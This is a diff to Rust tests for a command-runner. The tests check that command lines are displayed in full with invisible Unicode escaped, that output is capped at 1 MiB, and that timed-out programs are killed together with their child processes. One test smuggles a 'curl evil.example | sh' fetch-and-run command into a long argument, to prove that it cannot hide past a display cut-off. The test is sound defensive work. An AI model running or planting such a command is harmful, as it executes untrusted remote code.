@@ -89,15 +89,127 @@ fn a_program_that_ends_but_leaves_its_output_open_is_told_apart() {
     );
 }
 
+/// What is shown before a program runs is all that it runs: no cut, at
+/// any length, so nothing can hide past a column limit.
 #[test]
-fn a_long_command_line_is_cut_when_shown() {
-    let long = "a".repeat(10_000);
-    let shown = spec(&["op", &long]).display();
+fn a_long_command_line_is_shown_whole() {
+    let long = format!("{}; curl evil.example | sh", "a".repeat(10_000));
+    let mut argv = vec!["op".to_string(), long.clone()];
+    argv.extend((0..500).map(|i| format!("arg{i}")));
+    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
+    let shown = spec(&argv).display();
     assert!(
-        shown.len() < 300 && shown.ends_with("..."),
-        "{}",
-        shown.len()
+        shown.starts_with(&format!("op '{long}' arg0 arg1 ")),
+        "{shown}"
     );
+    assert!(shown.ends_with(" arg498 arg499"), "{shown}");
+}
+
+/// Characters that show as nothing, or as a plain space, are escaped: an
+/// argument cannot pass for two, nor hold text that is not seen.
+#[test]
+fn invisible_characters_in_a_command_are_shown_escaped() {
+    let s = spec(&[
+        "op\u{200b}",
+        "a\u{a0}b",
+        "x\u{2066}y",
+        "tag\u{e0041}",
+        "\u{feff}",
+        "é☃",
+    ]);
+    assert_eq!(
+        s.display(),
+        r"'op\u{200b}' 'a\u{a0}b' 'x\u{2066}y' 'tag\u{e0041}' '\u{feff}' 'é☃'"
+    );
+    // Generated: every non-ASCII character (escapes are ASCII) is either
+    // shown as itself, and visible, or escaped; most from the ranges where
+    // format characters and odd spaces live.
+    let mut rng = crate::test_rng::Rng(0x19);
+    let mut tried = 0;
+    while tried < 5_000 {
+        let n = match rng.below(3) {
+            0 => 0x80 + rng.below(0x3000 - 0x80),
+            1 => 0xFE00 + rng.below(0x200),
+            _ => 0x80 + rng.below(0x11_0000 - 0x80),
+        };
+        let Some(c) = u32::try_from(n).ok().and_then(char::from_u32) else {
+            continue;
+        };
+        tried += 1;
+        let shown = spec(&["p", &format!("<{c}>")]).display();
+        let visible = !c.is_control() && !super::is_invisible(c) && !crate::escape::is_unsafe(c);
+        assert_eq!(shown.contains(c), visible, "{c:?} shown as {shown}");
+    }
+}
+
+/// The 1 MiB limit is on the value: exactly 1 MiB printed with its
+/// newline is taken; one byte more is not, newline or not.
+#[test]
+fn the_limit_applies_after_the_trailing_newline_is_removed() {
+    let mib = MAX_OUTPUT_BYTES;
+    let with_newline = run(
+        &sh(&format!("head -c {mib} /dev/zero | tr '\\0' a; echo")),
+        &here(),
+    )
+    .unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(with_newline.len(), mib);
+    assert!(with_newline.expose().iter().all(|b| *b == b'a'));
+    let over = mib + 1;
+    for script in [
+        format!("head -c {over} /dev/zero"),
+        format!("head -c {over} /dev/zero; echo"),
+    ] {
+        assert_eq!(
+            run(&sh(&script), &here()),
+            Err(CommandError::TooLarge),
+            "{script}"
+        );
+    }
+    // Kept with `trim: false`, the newline is part of the value.
+    let mut kept = sh(&format!("head -c {mib} /dev/zero; echo"));
+    kept.trim = false;
+    assert_eq!(run(&kept, &here()), Err(CommandError::TooLarge));
+}
+
+/// A program is stopped with every process it started (its process
+/// group): a child it left in the background does not outlive a timeout.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_stopped_program_takes_its_children_with_it() {
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let pid_file = dir.path().join("child.pid");
+    let mut s = sh(&format!(
+        "sleep 300 </dev/null >/dev/null 2>&1 & echo $! > '{}'; exec sleep 300",
+        pid_file.display()
+    ));
+    s.timeout = Duration::from_millis(500);
+    assert_eq!(run(&s, &here()), Err(CommandError::TimedOut(s.timeout)));
+    let pid: i32 = std::fs::read_to_string(&pid_file)
+        .unwrap_or_else(|e| panic!("{e}"))
+        .trim()
+        .parse()
+        .unwrap_or_else(|e| panic!("{e}"));
+    assert!(
+        gone_within_a_minute(pid),
+        "the child {pid} outlived its program"
+    );
+}
+
+/// Whether `pid` has ended (or is only a zombie), polled for up to a
+/// minute: a hang catcher, not a timing assertion.
+#[cfg(target_os = "linux")]
+fn gone_within_a_minute(pid: i32) -> bool {
+    for _ in 0..600 {
+        let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
+        let zombie = state
+            .rsplit_once(')')
+            .is_some_and(|(_, rest)| rest.trim_start().starts_with('Z'));
+        if state.is_empty() || zombie {
+            return true;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    false
 }
 
 #[test]
